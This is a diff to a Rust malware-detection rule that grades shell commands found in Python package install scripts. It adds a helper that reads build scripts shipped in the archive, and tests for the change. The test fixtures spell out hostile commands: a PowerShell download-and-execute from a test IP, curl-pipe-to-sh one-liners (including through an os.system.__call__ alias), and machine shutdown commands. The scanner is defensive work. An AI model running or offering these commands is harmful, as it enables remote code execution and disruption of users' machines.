@@ -105,10 +105,15 @@ impl Rule for ShellCommand {
                 };
                 let strong = call.arg_strs.iter().any(|a| vocab::is_strong_command(a))
                     || decoded_commands.iter().any(|t| vocab::is_strong_command(t));
+                // `["powershell.exe", ".\\build_extension.ps1"]`: a build script the artifact
+                // ships, read here like the rest of it; critical only if it is itself damning.
+                let shipped = shipped_script(analysis, call);
+                let strong = strong || shipped.as_deref().is_some_and(vocab::is_strong_command);
                 let severity = match call.stage {
                     // An argv that only fetches into the caller's memory (`["curl", "-fsSL", url]`,
                     // output captured) is a download at install time, not a command run: review.
                     Stage::Install if !strong && plain_fetch(call) => Severity::Medium,
+                    Stage::Install if !strong && shipped.is_some() => Severity::Medium,
                     Stage::Install => Severity::Critical,
                     Stage::Import if strong => Severity::Critical,
                     Stage::Import => Severity::High,
@@ -126,6 +131,34 @@ impl Rule for ShellCommand {
             }
         }
     }
+}
+
+/// The text of the script a command runs when the command is an interpreter
+/// followed only by flags and one script the artifact ships (a `.ps1`, `.sh`,
+/// `.bat` or `.cmd` member of that name): a build step whose every line is
+/// here to read. `None` for anything else, inline commands included.
+fn shipped_script(analysis: &Analysis, call: &crate::inspect::python::Call) -> Option<String> {
+    let words: Vec<&str> = call.arg_strs.first()?.split_whitespace().collect();
+    let (interpreter, rest) = words.split_first()?;
+    let base = |p: &str| p.rsplit(['/', '\\']).next().unwrap_or(p).to_ascii_lowercase();
+    let interpreter = base(interpreter);
+    let interpreter = interpreter.strip_suffix(".exe").unwrap_or(&interpreter);
+    if !matches!(interpreter, "powershell" | "pwsh" | "bash" | "sh" | "cmd") {
+        return None;
+    }
+    let mut scripts = rest.iter().filter(|w| !w.starts_with('-') && !w.starts_with('/'));
+    let script = base(scripts.next()?);
+    if scripts.next().is_some() || ![".ps1", ".sh", ".bat", ".cmd"].iter().any(|e| script.ends_with(e)) {
+        return None;
+    }
+    let member = analysis.listing.members.iter().find(|m| {
+        m.complete
+            && m.path
+                .rsplit('/')
+                .next()
+                .is_some_and(|f| f.eq_ignore_ascii_case(&script))
+    })?;
+    Some(String::from_utf8_lossy(&member.data).into_owned())
 }
 
 /// Severity of something with no honest use (decoded commands, web shells):
@@ -254,6 +287,53 @@ mod tests {
             "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n",
         );
         assert_eq!(f.len(), 1, "folded variable argument");
+    }
+
+    #[test]
+    fn shipped_build_script_run_at_install_is_read_not_assumed() {
+        // No error (issue 11): a build_ext running the toolchain script the sdist ships.
+        let setup = "import subprocess\nsubprocess.Popen(['powershell.exe', '.\\\\build_extension.ps1'])\n";
+        let script =
+            "Invoke-WebRequest https://github.com/Kitware/CMake/releases/download/v3.29.0/cmake.zip -OutFile c.zip\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
+        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
+        // Error: the shipped script is itself damning, or it is not shipped at all.
+        let script = "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/build_extension.ps1", script)];
+        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        let f = setup_py(&ShellCommand, setup);
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+    }
+
+    #[test]
+    fn fires_on_shutdown_and_call_aliases() {
+        // Error (issue 11): shutting the machine down from setup.py.
+        let f = setup_py(&ShellCommand, "import os\nos.system('shutdown /s /t 0')\n");
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        let f = setup_py(
+            &ShellCommand,
+            "import subprocess\nsubprocess.run(['shutdown', '-h', 'now'])\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // Error (issue 11): `.__call__` as an alias of the sink.
+        let f = setup_py(
+            &ShellCommand,
+            "import os\nrun = os.system.__call__\nrun('curl -s http://198.51.100.7/x | sh')\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        let f = setup_py(
+            &ShellCommand,
+            "import os\nos.system.__call__('curl -s http://198.51.100.7/x | sh')\n",
+        );
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
+        // No error: a server's `shutdown()` method, and the word in a message.
+        let f = setup_py(
+            &ShellCommand,
+            "import subprocess\nsubprocess.run(['echo', 'graceful shutdown'])\n",
+        );
+        assert!(f.is_empty(), "{f:?}");
     }
 
     #[test]
